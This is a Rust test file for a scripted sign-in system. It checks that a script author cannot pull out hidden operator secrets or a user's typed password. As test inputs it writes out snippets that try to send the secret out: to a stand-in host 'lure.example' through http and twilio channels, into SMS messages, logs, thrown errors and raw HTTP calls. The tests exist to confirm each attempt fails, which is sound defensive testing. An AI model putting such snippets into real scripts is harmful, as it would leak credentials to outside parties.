//! Whoever may change a script is not given the secrets that others typed for it: a hidden property
//! goes where it was typed for, under its own name, and nowhere else.

use crate::common::{ALICE, Bench, browser, visitor};
use countersign_signin::{Form, MethodState, Rules};

const KEPT: &str = "hunter2-kept";

/// A method like `smpp` whose `init` is another one.
fn with_init(init: &str) -> String {
    format!(
        "fn declare() {{ codes.properties(\"smpp\") }}
         fn init(properties) {{ {init}; true }}
         fn authenticate(step, form) {{ users.check_password(form.username, form.password) }}"
    )
}

/// Why a method is not taken up; none when it works.
fn fault(bench: &Bench, name: &str) -> Option<String> {
    let status = bench.sign_ins.methods().status();
    let status = status.into_iter().find(|method| method.name == name);
    match status.expect("the method is there").state {
        MethodState::Failed(fault) => Some(fault.to_string()),
        MethodState::Working | MethodState::Off => None,
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hidden_property_is_handed_on_as_what_it_is_and_to_where_it_was_typed_for() {
    let bench = Bench::with(Rules::default(), &[("password", KEPT)]).await;
    for init in [
        "properties.smpp_server = \"127.0.0.2\"; codes.open(\"smpp\", properties)",
        "properties.smpp_port = 1; codes.open(\"smpp\", properties)",
        "properties.tls = \"true\"; codes.open(\"smpp\", properties)",
        "properties.remove(\"smpp_port\"); codes.open(\"smpp\", properties)",
        "codes.open(\"smpp\", #{ smpp_server: \"127.0.0.2\", password: properties.password })",
        "codes.open(\"http\", #{ http_url: \"https://lure.example\", http_body: \"{{ secret }}\", \
            http_secret: properties.password })",
        "codes.open(\"twilio\", #{ api_url: \"https://lure.example\", twilio_sid: \"AC0\", \
            from_number: \"+447700900999\", twilio_token: properties.password })",
        // It would be in every text message, or in what the console shows of a wrong value.
        "properties.message = properties.password; codes.open(\"smpp\", properties)",
        "properties.source_addr = properties.password; codes.open(\"smpp\", properties)",
        "properties.window_size = properties.password; codes.open(\"smpp\", properties)",
        "let hidden = properties.password; let f = || hidden; properties.message = f.call(); \
            codes.open(\"smpp\", properties)",
        "totp.open(#{ issuer: properties.password })",
        "totp.open(#{ password: properties.password })",
        "recovery.open(#{ max_attempts: properties.password })",
        "log.info(properties.password)",
        "throw properties.password + \"\"",
        "throw properties.to_json()",
        "throw `${properties} ${properties.values()} ${[properties.password]}`",
        "http.get(properties.password)",
        "http.post(\"http://127.0.0.1/\", properties.password)",
    ] {
        bench.script("smpp", 45, &with_init(init)).await;
        let fault = fault(&bench, "smpp");
        let fault = fault.unwrap_or_else(|| panic!("it is taken up: {init}"));
        assert!(!fault.contains(KEPT), "{init}: {fault}");
    }
    bench.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_says_nothing_of_where_it_is_sent_may_be_set_by_the_script() {
    let bench = Bench::new().await;
    bench.add("alice", Some(ALICE)).await;
    let source = include_str!("../../methods/smpp.rhai").replace(
        "codes.open(\"smpp\", properties);",
        "properties.source_addr = \"Harbour\"; properties.tls = \"\"; \
         codes.open(\"smpp\", properties);",
    );
    bench.script("smpp", 45, &source).await;
    assert_eq!(fault(&bench, "smpp"), None);
    bench.to_code_page("alice", &browser()).await;
    let message = bench.smsc.wait_for_message(ALICE, 1).await;
    assert_eq!(message.from, "Harbour");
    bench.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_value_of_a_hidden_property_is_told_in_no_error() {
    let bench = Bench::new().await;
    // Hidden by whoever wrote the script, though its name is not a secret's.
    let source = "fn declare() { [#{ name: \"window_size\", hidden: true }] }
        fn init(properties) { codes.open(\"smpp\", properties); true }
        fn authenticate(step, form) { false }";
    bench.script("smpp", 45, source).await;
    bench.set("smpp", "window_size", KEPT).await;
    let fault = fault(&bench, "smpp").expect("it is no number");
    assert!(fault.contains("window_size"), "{fault}");
    assert!(!fault.contains(KEPT), "{fault}");
    bench.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_person_typed_and_what_an_operator_hid_do_not_stand_in_for_each_other() {
    let bench = Bench::new().await;
    bench.add("alice", Some(ALICE)).await;
    for expression in [
        "codes.open(\"smpp\", #{ smpp_server: \"127.0.0.1\", password: form.password })",
        "codes.open(\"log\", #{ message: form.password })",
        "totp.open(#{ issuer: form.password })",
        "users.check_password(\"alice\", properties.password)",
        "codes.verify(properties.password)",
    ] {
        let source = format!("fn authenticate(step, form) {{ {expression}; throw \"taken\" }}");
        bench.script("nosy", 10, &source).await;
        // Even where it is the same.
        bench.set("nosy", "password", crate::common::PASSWORD).await;
        let browser = browser();
        let view = bench.open("nosy", &browser).await;
        let form = Form::new([
            ("username".to_owned(), "alice".to_owned()),
            ("password".to_owned(), crate::common::PASSWORD.to_owned()),
        ]);
        let came = bench
            .sign_ins
            .submit(&view.id, view.step, &browser, &form, &visitor())
            .await;
        let told = came.expect_err(expression).to_string();
        assert!(!told.contains("taken"), "{expression}: {told}");
        assert!(
            !told.contains(crate::common::PASSWORD),
            "{expression}: {told}"
        );
    }
    bench.end().await;
}
